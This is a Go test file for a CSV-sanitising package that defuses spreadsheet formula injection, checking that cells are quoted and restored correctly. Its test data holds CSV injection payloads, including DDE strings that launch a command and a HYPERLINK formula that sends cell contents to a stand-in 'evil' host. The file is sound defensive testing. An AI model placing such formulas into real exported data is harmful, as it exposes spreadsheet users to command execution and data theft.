package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/ringmaster-fleet/ringmaster/internal/safecsv"
)

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{`=HYPERLINK("http://evil/?"&A1)`, `'=HYPERLINK("http://evil/?"&A1)`},
		{`-`, `'-`},
		{`+`, `'+`},
		{`-1e5`, `'-1e5`},
		{`-5.`, `'-5.`},
		// A quote before a formula is quoted again, so Restore can tell.
		{`'=1+1`, `''=1+1`},
		{`''-x`, `'''-x`},
		// Left alone: ordinary text, plain numbers, a quote before text.
		{`Example Hospitals NHS Trust`, `Example Hospitals NHS Trust`},
		{`-5`, `-5`},
		{`+3.25`, `+3.25`},
		{`-0.5`, `-0.5`},
		{`'Tis`, `'Tis`},
		{`'-5`, `'-5`},
		{`'`, `'`},
		{``, ``},
		{` =1+1`, ` =1+1`},
		{`a=b`, `a=b`},
	}
	for _, tt := range tests {
		if got := safecsv.Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := safecsv.Restore(tt.want); got != tt.in {
			t.Errorf("Restore(%q) = %q, want %q", tt.want, got, tt.in)
		}
	}
}

func TestWriter(t *testing.T) {
	rec := []string{"RXX", `=cmd|' /C calc'!A0`, "-5", "@x"}
	for _, raw := range []bool{false, true} {
		var b bytes.Buffer
		w := safecsv.NewWriter(&b)
		w.Raw = raw
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		got, err := csv.NewReader(&b).Read()
		if err != nil {
			t.Fatal(err)
		}
		want := []string{"RXX", `'=cmd|' /C calc'!A0`, "-5", "'@x"}
		if raw {
			want = rec
		}
		if !slices.Equal(got, want) {
			t.Errorf("raw %v: wrote %q, want %q", raw, got, want)
		}
	}
}

func FuzzRestoreNeutralise(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''@", "-5", "'", "-", "+.5", "x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := safecsv.Neutralise(s)
		if got := safecsv.Restore(n); got != s {
			t.Fatalf("Restore(Neutralise(%q)) = %q", s, got)
		}
		// What is written never starts a formula.
		if len(n) > 0 && n[0] != '\'' && safecsv.Neutralise(n) != n {
			t.Fatalf("Neutralise(%q) = %q still starts a formula", s, n)
		}
	})
}
